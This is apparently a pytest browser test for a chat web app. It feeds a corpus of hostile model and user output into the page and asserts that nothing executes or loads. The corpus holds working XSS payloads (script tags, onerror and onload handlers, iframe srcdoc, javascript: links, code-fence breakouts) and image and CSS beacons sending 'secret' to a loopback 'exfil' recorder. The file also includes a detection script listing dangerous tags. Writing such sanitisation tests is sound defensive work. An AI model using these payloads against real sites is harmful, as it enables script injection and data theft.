"""Hostile model output in a real browser: nothing runs, nothing loads."""

from __future__ import annotations

import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from chatstream.models import Generation
from chatstream.testing import Script

from .conftest import expect, screenshot, send, start_conversation

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

# Watches the whole document from before the page's own scripts run: any element that could
# run script or load something, wherever and whenever it appears, is a violation.
DETECTOR = """
window.__pwned = 0;
window.__violations = [];
(() => {
  const LIVE = ["SCRIPT", "IFRAME", "FRAME", "OBJECT", "EMBED", "SVG", "IMG", "STYLE", "LINK",
                "BASE", "FORM", "MATH", "VIDEO", "AUDIO"];
  const report = (why, node) => window.__violations.push(why + ": " + node.outerHTML.slice(0, 160));
  const check = (root) => {
    if (!(root instanceof Element)) return;
    for (const node of [root, ...root.querySelectorAll("*")]) {
      for (const attr of node.attributes) {
        const name = attr.name.toLowerCase(), value = attr.value.trim().toLowerCase();
        if (name.startsWith("on")) report("handler", node);
        if (["href", "src", "action", "formaction", "xlink:href"].includes(name) &&
            /^(javascript|vbscript|data):/.test(value.replace(/[\\s\\u0000-\\u001f]/g, "")))
          report("url", node);
        if (name === "srcdoc") report("srcdoc", node);
      }
      const inContent = node.closest(".cs-stream, .cs-text");  // model or user text
      if (inContent && LIVE.includes(node.tagName.toUpperCase())) report("element", node);
      if (node.parentElement && node.parentElement.matches(".cs-stream")) {
        report("live-region", node);
      }
    }
  };
  new MutationObserver((records) => {
    for (const record of records) {
      record.addedNodes.forEach(check);
      if (record.type === "attributes") check(record.target);
    }
  }).observe(document, {subtree: true, childList: true, attributes: true});
})();
"""


class _Recorder(BaseHTTPRequestHandler):
    def do_GET(self) -> None:
        self.server.hits.append(self.path)  # type: ignore[attr-defined]
        self.send_response(200)
        self.send_header("Content-Type", "image/gif")
        self.end_headers()

    def log_message(self, format: str, *args: object) -> None:
        pass


@pytest.fixture
def exfil() -> Iterator[ThreadingHTTPServer]:
    """A tiny HTTP server on loopback that records every request: none may ever arrive."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Recorder)
    server.hits = []  # type: ignore[attr-defined]
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(5)


def corpus(port: int) -> str:
    exfil = f"http://127.0.0.1:{port}"
    return f"""Here are some tricks.

<script>window.__pwned = 1; alert(1)</script>

<img src=x onerror="window.__pwned = 2; alert(2)">

<svg onload="window.__pwned = 3; alert(3)"><circle r=5></circle></svg>

<iframe srcdoc="<script>parent.__pwned = 4; alert(4)</script>"></iframe>

[click me](javascript:window.__pwned=5) and [also me](JaVaScRiPt:alert(5))

<a href="javascript:alert(6)">raw link</a>

![secret]({exfil}/exfil?q=secret) and ![ref][pixel]

<img src="{exfil}/raw?q=secret">

<div style="background:url({exfil}/css)">styled</div>

<details open ontoggle="window.__pwned = 7">toggle</details>

A split tag: <scr""" + """ipt>window.__pwned = 8</scr""" + f"""ipt> end.

```python" onmouseover="window.__pwned = 10
print("quotes in the info string")
```

```<img src=x onerror="window.__pwned = 11">
html in the info string
```

```javascript:window.__pwned=12
a javascript: info string
```

```python
</code></pre><script>window.__pwned = 13</script><img src="{exfil}/fence">
```

[pixel]: {exfil}/ref?q=secret
"""


def _assert_nothing_ran_or_loaded(page, dialogs, requests, exfil, origin) -> None:
    assert dialogs == []
    assert page.evaluate("window.__pwned") == 0
    assert page.evaluate("window.__violations") == []
    assert exfil.hits == []
    foreign = [url for url in requests if not url.startswith(origin + "/")]
    assert foreign == []
    attributes = page.evaluate("""() => [...document.querySelectorAll('.cs-message *')]
        .flatMap(el => [...el.attributes].map(a => a.name + '=' + a.value))""")
    assert not [a for a in attributes if a.lower().startswith("on")]
    assert not [a for a in attributes if "javascript:" in a.lower()]
    for tag in ("script", "img", "svg", "iframe", "style", "details", "form", "div:not(.cs-code)"):
        expect(page.locator(f".cs-message .cs-text {tag}")).to_have_count(0)


def test_hostile_reply_runs_nothing_and_loads_nothing_while_streaming_and_after(
    page, site, simulator, use_model, exfil
):
    text = corpus(exfil.server_address[1])
    simulator.register("xss", Script(text=text, tokens_per_second=150, first_token_delay=0))
    use_model("xss")
    dialogs: list[str] = []
    requests: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    page.on("request", lambda request: requests.append(request.url))
    page.add_init_script(DETECTOR)
    start_conversation(page)

    send(page, '<img src=x onerror="window.__pwned = 9">')  # hostile input from the user, too

    live = page.locator(".cs-live .cs-live-text")
    expect(live).to_contain_text("<script>window.__pwned = 1")  # shown as text, as it arrives
    # Its blocks are rendered (sanitised HTML, put in by chatstream.js) while it streams.
    expect(live.locator("> p").first).to_be_visible()
    final = page.locator(".cs-assistant.cs-completed")
    expect(final).to_be_visible(timeout=15_000)
    assert Generation.objects.get().content == text  # stored raw; escaped only when shown
    expect(final).to_contain_text("<script>window.__pwned = 1; alert(1)</script>")
    expect(final).to_contain_text("[click me](javascript:window.__pwned=5)")
    expect(final.locator(".cs-image-alt")).to_have_count(2)
    expect(final.locator(".cs-code")).to_have_count(4)  # each fence is a code block, as text
    expect(final.locator(".cs-code-lang")).to_have_text(["python"])
    expect(final.locator("pre").last).to_contain_text("</code></pre><script>window.__pwned = 13")
    expect(page.locator(".cs-user")).to_contain_text('<img src=x onerror="window.__pwned = 9">')
    _assert_nothing_ran_or_loaded(page, dialogs, requests, exfil, site.url)
    screenshot(page, "xss-corpus", full_page=True)

    page.reload()  # the server-rendered transcript
    expect(page.locator(".cs-assistant.cs-completed")).to_contain_text("raw link")
    page.wait_for_load_state("networkidle")
    _assert_nothing_ran_or_loaded(page, dialogs, requests, exfil, site.url)
